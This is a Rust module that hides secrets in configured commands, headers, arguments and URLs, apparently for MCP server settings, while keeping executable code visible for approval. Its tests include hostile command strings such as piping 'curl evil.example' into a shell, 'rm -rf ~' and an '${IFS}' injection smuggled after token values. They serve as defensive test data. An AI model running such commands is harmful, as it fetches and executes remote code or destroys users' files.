//! What may be shown of a configured value: enough to recognise it, never a secret.
//!
//! Placeholders are shown as written, since `${TOKEN}` tells nothing. Literal values of variables and
//! headers are always hidden. Commands, arguments and addresses are shown, except for what looks like a key:
//! values of telling options, query values, user names and passwords, and long random-looking words.

use crate::template::{PartRef, Template};
use crate::visible::visible;

/// What stands for a hidden value.
pub const STARS: &str = "***";

/// Parts of names that usually carry a secret.
const TELLING: &[&str] = &[
    "apikey",
    "token",
    "secret",
    "password",
    "passwd",
    "pwd",
    "authorization",
    "auth",
    "credential",
    "cookie",
    "privatekey",
    "accesskey",
    "connectionstring",
    "dsn",
    "session",
    "bearer",
    "passphrase",
    "jwt",
    "assertion",
    "signature",
];

/// A variable's or header's value: placeholders stay, text goes.
pub fn value(template: &Template) -> String {
    if let Some(command) = template.shell_command() {
        return format!("!{}", word(command));
    }
    let shown: String = template
        .parts()
        .map(|part| match part {
            PartRef::Text(text) if text.trim().is_empty() || is_auth_scheme(text) => text.to_owned(),
            PartRef::Text(_) => STARS.to_owned(),
            PartRef::Variable { name, default: None } => format!("${{{name}}}"),
            PartRef::Variable { name, default: Some(_) } => format!("${{{name}:-{STARS}}}"),
            PartRef::File(path) => format!("{{file:{path}}}"),
            PartRef::Input(id) => format!("${{input:{id}}}"),
            PartRef::Stored(id) => format!("${{{{ secrets.{id} }}}}"),
            PartRef::Command(command) => format!("$({})", word(command)),
            PartRef::Folder(folder) => format!("${{{folder:?}}}"),
            PartRef::Unknown(text) => text.to_owned(),
        })
        .collect();
    visible(&shown).into_owned()
}

/// A variable of a child: hidden like any value, unless it decides what the child executes. Such a one must be seen.
pub fn variable(name: &str, template: &Template) -> String {
    const LOADERS: &[&str] = &[
        "PATH",
        "NODE_OPTIONS",
        "NODE_PATH",
        "PYTHONPATH",
        "PYTHONSTARTUP",
        "PYTHONHOME",
        "RUBYOPT",
        "RUBYLIB",
        "PERL5OPT",
        "PERL5LIB",
        "JAVA_TOOL_OPTIONS",
        "BASH_ENV",
        "ENV",
        "SHELL",
        "EDITOR",
        "PAGER",
        "GIT_SSH",
        "GIT_SSH_COMMAND",
        "PROMPT_COMMAND",
        "IFS",
    ];
    let upper = name.to_ascii_uppercase();
    if LOADERS.contains(&upper.as_str()) || upper.starts_with("LD_") || upper.starts_with("DYLD_") {
        return word(template.raw());
    }
    value(template)
}

/// A list of arguments, without the keys in it.
pub fn args<'a>(args: impl IntoIterator<Item = &'a Template>) -> Vec<String> {
    let mut shown = Vec::new();
    let mut next = Next::Show;
    for arg in args {
        let text = visible(arg.raw());
        // After a telling option the whole word is a secret, unless there is code in it.
        let hide =
            next == Next::Hide && !text.starts_with('-') && !is_placeholder(&text) && !text.contains(CODE);
        shown.push(if hide { STARS.to_owned() } else { runs(&text, &mut next) });
        next = if is_telling_option(&text) { Next::Hide } else { Next::Show };
    }
    shown
}

/// A command, an argument or any other text, without a key in it.
pub fn word(text: &str) -> String {
    runs(&visible(text), &mut Next::Show)
}

/// Whether an option of this spelling is followed by a secret.
pub fn is_telling_option(arg: &str) -> bool {
    arg.starts_with('-') && !arg.contains(['=', ' ']) && is_telling(arg)
}

/// What to do with the next run of characters.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Next {
    Show,
    /// A quotation mark stands before it: it may be a name, as in JSON.
    Named,
    /// A telling name stands before it; a colon would make it a secret.
    AfterName,
    /// It is a secret.
    Hide,
}

/// Characters that make a shell do something.
const CODE: &[char] = &[';', '|', '&', '<', '>', '(', ')', '`', '{', '}', '\n'];

/// Goes through a text run by run, so that a key is hidden and never the code around it: what would be executed
/// must stay readable for whoever has to agree to it.
fn runs(text: &str, next: &mut Next) -> String {
    if text.trim_start().to_ascii_lowercase().starts_with("cookie:") && !text.contains(['|', '`', '(']) {
        return format!("Cookie: {STARS}");
    }
    // The plainest words, such as `npx` and `-y`, are the most common ones.
    if *next == Next::Show && text.len() < 20 && text.bytes().all(|byte| byte.is_ascii_lowercase()) {
        return text.to_owned();
    }
    let mut shown = String::with_capacity(text.len());
    for word in text.split_inclusive([' ', '\t', '"', '\'']) {
        let mut start = 0;
        for end in separators(word) {
            if start < end {
                shown.push_str(&one_run(&word[start..end], next));
            }
            let separator = word[end..].chars().next().unwrap_or(' ');
            if CODE.contains(&separator) {
                *next = Next::Show;
            } else if separator == '"' && *next == Next::Show {
                *next = Next::Named;
            }
            shown.push(separator);
            start = end + separator.len_utf8();
        }
        if start < word.len() {
            shown.push_str(&one_run(&word[start..], next));
        }
    }
    shown
}

/// Where the runs of a word end. A placeholder belongs to its run; an address keeps its `&`.
fn separators(word: &str) -> Vec<usize> {
    let is_address = word.contains("://");
    let last_close = word.rfind('}').unwrap_or(0);
    let mut inside = false;
    let mut ends = Vec::new();
    for (index, c) in word.char_indices() {
        match c {
            '$' if word[index..].starts_with("${") => inside = index < last_close,
            '{' if inside => {}
            '{' if word[index..].starts_with("{env:") || word[index..].starts_with("{file:") => {
                inside = index < last_close;
            }
            '}' if inside => inside = false,
            '&' if is_address => {}
            ' ' | '\t' | '"' | '\'' | '\\' | ',' if !inside => ends.push(index),
            c if CODE.contains(&c) && !inside => ends.push(index),
            _ => {}
        }
    }
    ends
}

fn one_run(run: &str, next: &mut Next) -> String {
    let before = std::mem::replace(next, Next::Show);
    if before == Next::Hide && is_auth_scheme(run) {
        *next = Next::Hide;
        return run.to_owned();
    }
    if before == Next::AfterName && matches!(run, ":" | "=") {
        *next = Next::Hide;
        return run.to_owned();
    }
    if is_telling_option(run) || (run.ends_with([':', '=']) && is_telling(run)) {
        *next = Next::Hide;
        return run.to_owned();
    }
    if is_placeholder(run) {
        return run.to_owned();
    }
    if before == Next::Hide && !run.starts_with('-') {
        return STARS.to_owned();
    }
    if run.contains("://") {
        return url(run);
    }
    if let Some((name, default)) =
        run.strip_prefix("${").and_then(|rest| rest.strip_suffix('}')?.split_once(":-"))
        && !default.contains('{')
        && (is_telling(name) || looks_random(default))
    {
        return format!("${{{name}:-{STARS}}}");
    }
    for separator in ['=', ':'] {
        let Some((name, value)) = run.split_once(separator) else { continue };
        if value.is_empty() || is_placeholder(value) || !(is_telling(name) || looks_random(value)) {
            continue;
        }
        if is_auth_scheme(value) {
            *next = Next::Hide;
            return run.to_owned();
        }
        return format!("{name}{separator}{STARS}");
    }
    if let Some((user, host)) = run.rsplit_once('@')
        && user.contains(':')
    {
        return format!("{STARS}@{host}");
    }
    if before == Next::Named && is_telling(run) {
        *next = Next::AfterName;
    }
    if looks_random(run) { STARS.to_owned() } else { run.to_owned() }
}

/// An address: no user, no password, no query values, no random path segments.
pub fn url(text: &str) -> String {
    let shown = visible(text);
    let Some((scheme, rest)) = shown.split_once("://") else { return runs(&shown, &mut Next::Show) };
    let (rest, fragment) = split(rest, '#');
    let (rest, query) = split(rest, '?');
    let (authority, path) = match rest.find('/') {
        Some(slash) => rest.split_at(slash),
        None => (rest, ""),
    };
    let host = authority.rsplit_once('@').map_or(authority, |(_, host)| host);
    let user = if host.len() == authority.len() { "" } else { "***@" };
    let path = path
        .split('/')
        .map(|segment| if looks_random(segment) { STARS } else { segment })
        .collect::<Vec<_>>()
        .join("/");
    let query = query.map(|query| {
        let pairs = query.split('&').map(|pair| match pair.split_once('=') {
            Some((_, value)) if is_placeholder(value) => pair.to_owned(),
            Some((name, _)) => format!("{name}={STARS}"),
            None if pair.is_empty() || is_placeholder(pair) => pair.to_owned(),
            None => STARS.to_owned(),
        });
        format!("?{}", pairs.collect::<Vec<_>>().join("&"))
    });
    let fragment = fragment.map(|_| format!("#{STARS}"));
    format!("{scheme}://{user}{host}{path}{}{}", query.unwrap_or_default(), fragment.unwrap_or_default())
}

/// Whether a variable, header or option of this name usually carries a secret.
pub fn is_telling(name: &str) -> bool {
    if name.len() < 3 {
        return false;
    }
    let name: String =
        name.chars().filter(char::is_ascii_alphanumeric).collect::<String>().to_ascii_lowercase();
    let ends = ["key", "pass", "pat", "pin"];
    TELLING.iter().any(|telling| name.contains(telling)) || ends.iter().any(|end| name.ends_with(end))
}

/// Whether the text is one placeholder without a default, and nothing else.
fn is_placeholder(text: &str) -> bool {
    let inner = text
        .strip_prefix("${")
        .or_else(|| text.strip_prefix("{env:"))
        .and_then(|rest| rest.strip_suffix('}'));
    inner.is_some_and(|inner| !inner.contains(['{', '}']) && !inner.contains(":-"))
}

fn is_auth_scheme(text: &str) -> bool {
    matches!(text.trim().to_ascii_lowercase().as_str(), "bearer" | "basic" | "token" | "apikey")
}

/// A word that looks made by a machine: a known key prefix, or long with letters and digits mixed.
fn looks_random(word: &str) -> bool {
    const PREFIXES: &[&str] = &[
        "sk-",
        "sk_",
        "pk_",
        "rk_",
        "ghp_",
        "gho_",
        "ghs_",
        "ghu_",
        "github_pat_",
        "glpat-",
        "xoxb-",
        "xoxp-",
        "xapp-",
        "AKIA",
        "ASIA",
        "AIza",
        "ya29.",
        "eyJ",
        "ntn_",
        "secret_",
        "lin_api_",
        "figd_",
        "hf_",
        "npm_",
        "pypi-",
        "dop_v1_",
        "shpat_",
        "sntrys_",
        "sntryu_",
        "tvly-",
        "ctx7sk",
        "fc-",
    ];
    let is_key_character = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '+' | '=' | '.');
    if !word.chars().all(is_key_character) {
        return false;
    }
    if PREFIXES.iter().any(|prefix| word.len() >= prefix.len() + 8 && word.starts_with(prefix)) {
        return true;
    }
    let body: Vec<char> = word.chars().collect();
    if body.len() < 20 {
        return false;
    }
    let digits = body.iter().filter(|c| c.is_ascii_digit()).count();
    let letters = body.iter().filter(|c| c.is_ascii_alphabetic()).count();
    // Words and versions change kind rarely; keys do it all the time.
    let changes = body.windows(2).filter(|pair| kind(pair[0]) != kind(pair[1])).count();
    digits >= 3 && letters >= 3 && changes * 4 >= body.len()
}

fn kind(c: char) -> u8 {
    match c {
        c if c.is_ascii_digit() => 0,
        c if c.is_ascii_uppercase() => 1,
        c if c.is_ascii_lowercase() => 2,
        _ => 3,
    }
}

fn split(text: &str, at: char) -> (&str, Option<&str>) {
    match text.split_once(at) {
        Some((before, after)) => (before, Some(after)),
        None => (text, None),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::template::Syntax;

    #[test]
    fn values_show_their_placeholders_only() {
        let check = |raw: &str, shown: &str| assert_eq!(value(&Template::parse(raw, Syntax::Braced)), shown);
        check("hunter2", "***");
        check("${TOKEN}", "${TOKEN}");
        check("Bearer ${TOKEN}", "Bearer ${TOKEN}");
        check("Bearer abc", "***");
        check("prefix-${TOKEN}", "***${TOKEN}");
        check("${TOKEN:-fallback}", "${TOKEN:-***}");
        check("!op read op://vault/item", "!op read op://vault/item");
        check("!curl -H Authorization:hunter2", "!curl -H Authorization:***");
    }

    #[test]
    fn arguments_lose_their_keys() {
        let check = |list: &[&str], shown: &[&str]| {
            let templates: Vec<_> = list.iter().map(|arg| Template::parse(*arg, Syntax::Braced)).collect();
            assert_eq!(args(&templates), shown);
        };
        check(&["-y", "@modelcontextprotocol/server-github"], &["-y", "@modelcontextprotocol/server-github"]);
        check(&["--api-key", "hunter2", "--port", "80"], &["--api-key", "***", "--port", "80"]);
        check(&["--api-key=hunter2"], &["--api-key=***"]);
        check(&["--api-key", "${KEY}"], &["--api-key", "${KEY}"]);
        check(&["--api-key=${KEY}"], &["--api-key=${KEY}"]);
        check(&["--header", "Authorization: Bearer hunter2"], &["--header", "Authorization: Bearer ***"]);
        check(&["--token", "${TOKEN:-hunter2}"], &["--token", "***"]);
        check(&["${API_KEY:-hunter2}"], &["${API_KEY:-***}"]);
        check(&["--header", "Authorization: Bearer ${T}"], &["--header", "Authorization: Bearer ${T}"]);
        check(&["ghp_exampleexampleexample"], &["***"]);
        check(&["Authorization:Bearer hunter2"], &["Authorization:Bearer ***"]);
        check(&["{\"apiKey\":\"hunter2\",\"n\":1}"], &["{\"apiKey\":\"***\",\"n\":1}"]);
        check(&["--password", "correct horse hunter2"], &["--password", "***"]);
        check(&["--password", "$hunter2"], &["--password", "***"]);
        check(&["--api-key", "${A}hunter2${B}"], &["--api-key", "***"]);
        check(&["Cookie: a=b; uid=hunter2"], &["Cookie: ***"]);
        check(&["--passphrase", "hunter2"], &["--passphrase", "***"]);
        check(&["me:hunter2@host"], &["***@host"]);
        check(&["a1B2c3D4e5F6g7H8i9J0k1"], &["***"]);
        check(&["postgres://me:pw@db/x"], &["postgres://***@db/x"]);
        check(&["/home/me/projects/app-2024"], &["/home/me/projects/app-2024"]);
        check(&["--exclude-standard-directories"], &["--exclude-standard-directories"]);
    }

    #[test]
    fn code_is_never_hidden_behind_a_key() {
        let check = |text: &str, shown: &str| assert_eq!(word(text), shown);
        check("sk-aaaaaaaaaaaa;curl evil.example|sh", "***;curl evil.example|sh");
        check("TOKEN=x; rm -rf ~", "TOKEN=***; rm -rf ~");
        check("--token x && curl evil.example", "--token *** && curl evil.example");
        check("curl https://a.dev?b=c;rm -rf ~", "curl https://a.dev?b=***;rm -rf ~");
        check("Authorization: Bearer x `rm -rf ~`", "Authorization: Bearer *** `rm -rf ~`");
        check("Authorization: Bearer $(rm -rf ~)", "Authorization: Bearer ***(rm -rf ~)");
        check("TOKEN=x&curl${IFS}evil.example>f", "TOKEN=***&curl${IFS}evil.example>f");
        check("--key={evil,-c,cmd}", "--key={evil,-c,cmd}");
    }

    #[test]
    fn addresses_lose_users_queries_and_keys() {
        let check = |raw: &str, shown: &str| assert_eq!(url(raw), shown);
        check("https://mcp.example.com/mcp", "https://mcp.example.com/mcp");
        check("https://a:b@mcp.example.com/mcp", "https://***@mcp.example.com/mcp");
        check("https://x.dev/mcp?key=hunter2&tools=a", "https://x.dev/mcp?key=***&tools=***");
        check("https://x.dev/mcp?key=${KEY}", "https://x.dev/mcp?key=${KEY}");
        check("https://x.dev/s/a1B2c3D4e5F6g7H8i9J0k1/sse", "https://x.dev/s/***/sse");
        check("https://x.dev/#frag", "https://x.dev/#***");
        check("${BASE}/mcp", "${BASE}/mcp");
    }
}
